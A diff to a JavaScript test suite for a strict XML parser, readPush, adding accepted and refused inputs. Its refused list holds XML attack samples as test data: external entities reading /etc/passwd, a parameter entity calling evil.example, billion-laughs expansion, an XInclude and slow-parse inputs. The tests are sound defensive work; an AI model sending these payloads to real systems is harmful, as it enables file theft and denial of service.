@@ -23,6 +23,15 @@ describe('readPush', () => {
     });
   });
 
+  it.each([
+    ['a prolog', `<?xml version="1.0" encoding="UTF-8"?>\n${wrap('<A>1</A>')}`, '1'],
+    ['comments anywhere', `<!-- a --><!---->${wrap('<!-- <A>2</A> --><A>1<!-- & -->2</A>')}<!-- z -->`, '12'],
+    ['XML’s own entities', wrap('<A>&lt;&amp;lt;&gt;&quot;&apos;</A>'), '<&lt;>"\''],
+    ['references to characters', wrap('<A>&#20320;&#x597D;&#x1F600;&#xD;</A>'), '你好😀\r'],
+  ])('takes %s', (_, push, text) => {
+    expect({ ...readPush(push) }).toEqual({ A: text });
+  });
+
   it('passes over what lies deeper, and does not take it for its own', () => {
     const push = wrap('<A>1</A><ScanCodeInfo>x<A>2</A><B><C>3</C></B></ScanCodeInfo>');
 
@@ -55,15 +64,20 @@ describe('readPush', () => {
     ['an element twice', wrap('<A>1</A><A>2</A>')],
     ['an attribute', wrap('<A a="1">1</A>')],
     ['a namespace', '<xml xmlns:x="http://x"><A>1</A></xml>'],
-    ['a comment', wrap('<!-- --><A>1</A>')],
     ['a processing instruction', wrap('<?php phpinfo() ?>')],
-    ['an XML declaration', `<?xml version="1.0"?>${wrap('<A>1</A>')}`],
     ['a DOCTYPE', `<!DOCTYPE xml>${wrap('<A>1</A>')}`],
     ['an external entity', `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>${wrap('<A>&e;</A>')}`],
     ['a parameter entity', `<!DOCTYPE x [<!ENTITY % e SYSTEM "http://evil.example/x"> %e;]>${wrap('')}`],
     ['a billion laughs', `<!DOCTYPE x [<!ENTITY l0 "lol">${laughs}]>${wrap('<A>&l9;</A>')}`],
-    ['an entity of XML’s own', wrap('<A>&lt;</A>')],
-    ['a character reference', wrap('<A>&#65;</A>')],
+    ['an XML declaration in the middle', wrap('<?xml version="1.0"?><A>1</A>')],
+    ['two XML declarations', `<?xml version="1.0"?><?xml version="1.0"?>${wrap('')}`],
+    ['a comment that does not end', wrap('<!-- <A>1</A>')],
+    ['an entity of HTML’s', wrap('<A>&nbsp;</A>')],
+    ['an entity named like what every object has', wrap('<A>&constructor;</A>')],
+    ['half an entity', wrap('<A>&lt</A>')],
+    ['a reference to no character', wrap('<A>&#xD800;</A>')],
+    ['a reference to NUL', wrap('<A>&#0;</A>')],
+    ['a reference between elements', wrap('&#32;<A>1</A>')],
     ['an include', wrap('<xi:include href="file:///etc/passwd"/>')],
     ['a depth of a thousand', wrap('<A>'.repeat(1_000) + '</A>'.repeat(1_000))],
   ])('refuses %s', (_, text) => {
@@ -71,9 +85,20 @@ describe('readPush', () => {
   });
 
   it('takes a time in proportion to the size, for what is made to be slow', () => {
-    const slow = ['<', '<A', '<![CDATA[', '<![CDATA[]]', ']]>', '&', '</', ' ', '<A '].map((part) =>
-      wrap(`<A>${part.repeat(64 * 1024)}`),
-    );
+    const slow = [
+      '<',
+      '<!--',
+      '<!-- -',
+      '&#',
+      '<A',
+      '<![CDATA[',
+      '<![CDATA[]]',
+      ']]>',
+      '&',
+      '</',
+      ' ',
+      '<A ',
+    ].map((part) => wrap(`<A>${part.repeat(64 * 1024)}`));
 
     for (const text of slow) expect(readPush(text)).toBeUndefined();
   });
